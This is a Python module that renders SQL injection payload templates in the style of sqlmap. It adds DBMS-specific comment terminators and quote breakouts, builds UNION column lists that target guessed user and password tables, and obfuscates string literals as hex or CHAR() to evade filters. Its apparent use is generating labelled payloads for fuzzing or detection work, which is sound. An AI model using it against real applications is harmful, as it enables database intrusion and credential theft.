"""Fill SQLi payload templates.

Template mini-language (see payloads_*.py):
  {B}  original parameter value + the context's breakout (e.g. 12  jdoe'  x')  shoes%')
  {X}  a "replacement" value + breakout (e.g. -1  0  -1'  ')  used for UNION
  {Q}  the quote char of the breakout (self-closing templates only)
  {T}  a comment terminator valid for the template's DBMS
  {n} {n2}  random 4-digit ints (sqlmap style);  {k} small int;  {s} sleep seconds
  {w}  random 4-letter word;  {hx} random hex;  {tbl} table;  {ucol} user col;  {pcol} pass col
  {cols:EXPR}  UNION column list of random width with EXPR at a random position
  {nulls}      a list of NULLs of random width
  {S:text}     string literal 'text', possibly rewritten as hex / CHAR() / concatenation
Everything before {T} is returned as (prefix, body); {T} is returned separately so that
whitespace/comment transforms never break the terminator.
"""

import re

TERMS = {
    "my": [(4, "-- "), (3, "-- -"), (3, "#"), (1, "/*"), (1, ";-- "), (1, "\x00")],
    "ms": [(4, "--"), (2, "-- "), (2, ";--"), (1, "/*")],
    "pg": [(4, "--"), (2, "-- "), (2, ";--")],
    "or": [(4, "--"), (2, "-- ")],
    "sl": [(4, "--"), (2, "-- ")],
}
DBMS_WEIGHTS = [(5, "my"), (2, "ms"), (2, "pg"), (1, "or"), (1, "sl")]
TABLES = ["users", "admin", "accounts", "members", "customers", "user", "tbl_users",
          "wp_users", "login", "staff"]
UCOLS = ["username", "user", "login", "email", "user_login", "name"]
PCOLS = ["password", "pass", "passwd", "pwd", "user_pass", "password_hash"]
WORDS_CHARS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"

def _weighted(rng, items):
    total = sum(w for w, _ in items)
    x = rng.random() * total
    for w, v in items:
        x -= w
        if x < 0:
            return v
    return items[-1][1]

def pick_dbms(rng, dbms):
    return _weighted(rng, DBMS_WEIGHTS) if dbms == "*" else dbms

def pick_term(rng, dbms, location):
    t = _weighted(rng, TERMS[dbms])
    if t == "\x00" and location != "query":
        t = "-- "
    return t

def string_literal(rng, text, dbms, tags):
    """Render a string literal, sometimes obfuscated (hex, CHAR(), concatenation)."""
    r = rng.random()
    if r < 0.62 or not text:
        return "'%s'" % text
    codes = [ord(c) for c in text]
    if dbms == "my":
        style = rng.choice(["hex", "hex", "char", "concat"])
    elif dbms == "ms":
        style = rng.choice(["char", "plus"])
    elif dbms in ("pg", "or"):
        style = rng.choice(["chr", "pipes"])
    else:
        style = rng.choice(["pipes", "char"])
    tags.append("str_" + style)
    if style == "hex":
        return "0x" + text.encode("utf-8").hex()
    if style == "char":
        if dbms == "ms":
            return "+".join("char(%d)" % c for c in codes)
        return "char(%s)" % ",".join(str(c) for c in codes)
    if style == "chr":
        return "||".join("chr(%d)" % c for c in codes)
    cut = rng.randint(1, max(1, len(text) - 1))
    a, b = text[:cut], text[cut:]
    if style == "concat":
        return "concat('%s','%s')" % (a, b)
    if style == "plus":
        return "'%s'+'%s'" % (a, b)
    return "'%s'||'%s'" % (a, b)

def union_cols(rng, expr, style=None):
    width = rng.randint(2, 8)
    pos = rng.randrange(width)
    style = style or rng.choice(["null", "num", "num"])
    cols = []
    for i in range(width):
        if i == pos:
            cols.append(expr)
        elif style == "null":
            cols.append("null")
        else:
            cols.append(str(i + 1))
    return ",".join(cols)

def breakout(rng, ctx):
    """Return (closer, quote) for a context kind."""
    if ctx == "num":
        return _weighted(rng, [(8, ""), (1, ")")]), ""
    if ctx == "like":
        c = _weighted(rng, [(5, "%'"), (3, "'"), (1, "%')")])
        return c, "'"
    if ctx == "sort":
        return "", ""
    c = _weighted(rng, [(10, "'"), (2, "')"), (2, '"'), (1, "'))"), (1, '")')])
    return c, c[0]

def render(rng, tpl, dbms, ctx, value, location):
    """Return dict(prefix, body, term, dbms, tags) for template text tpl."""
    tags = []
    dbms = pick_dbms(rng, dbms)
    closer, quote = breakout(rng, ctx)
    if "{Q}" in tpl and closer not in ("'", '"'):
        closer, quote = "'", "'"
    n = rng.randint(1000, 9999)
    n2 = rng.randint(1000, 9999)
    if n2 == n:
        n2 += 1
    if ctx == "num":
        xval = rng.choice(["-1", "0", "-" + value, "999999", value + " and 1=0", "-" + str(n)])
    else:
        xval = rng.choice(["", "-1", "x", value, "zz" + str(n)])
    simple = {
        "{B}": value + closer, "{X}": xval + closer, "{Q}": quote,
        "{n}": str(n), "{n2}": str(n2), "{k}": str(rng.randint(1, 12)),
        "{s}": str(rng.choice([5, 5, 5, 5, 3, 7, 10, 2, 15])),
        "{c}": str(rng.randint(48, 122)),
        "{w}": "".join(rng.choice(WORDS_CHARS) for _ in range(4)),
        "{hx}": "%x" % rng.randint(0x1000, 0xffff), "{tbl}": rng.choice(TABLES),
        "{ucol}": rng.choice(UCOLS), "{pcol}": rng.choice(PCOLS), "{v}": value,
    }
    out = tpl
    for key, val in simple.items():
        out = out.replace(key, val)
    out = re.sub(r"\{S:([^}]*)\}", lambda m: string_literal(rng, m.group(1), dbms, tags), out)
    out = re.sub(r"\{cols:([^{}]*)\}", lambda m: union_cols(rng, m.group(1)), out)
    out = out.replace("{nulls}", ",".join(["null"] * rng.randint(1, 8)))
    term = ""
    if out.endswith("{T}"):
        out = out[:-3]
        term = pick_term(rng, dbms, location)
    assert not re.search(r"\{[A-Za-z0-9]+\}|\{S:|\{cols:", out), (tpl, out)
    # split the leading value (+ breakout) off so transforms only touch the SQL part
    lead = ""
    for key in ("{B}", "{X}", "{v}"):
        if tpl.startswith(key):
            lead = simple[key]
            break
    if "\u00a6" in out:  # explicit prefix/body split marker in literal templates
        prefix, body = out.split("\u00a6", 1)
    elif lead and out.startswith(lead):
        prefix, body = lead, out[len(lead):]
    else:
        prefix, body = "", out
    return {"prefix": prefix, "body": body, "term": term, "dbms": dbms, "tags": tags}
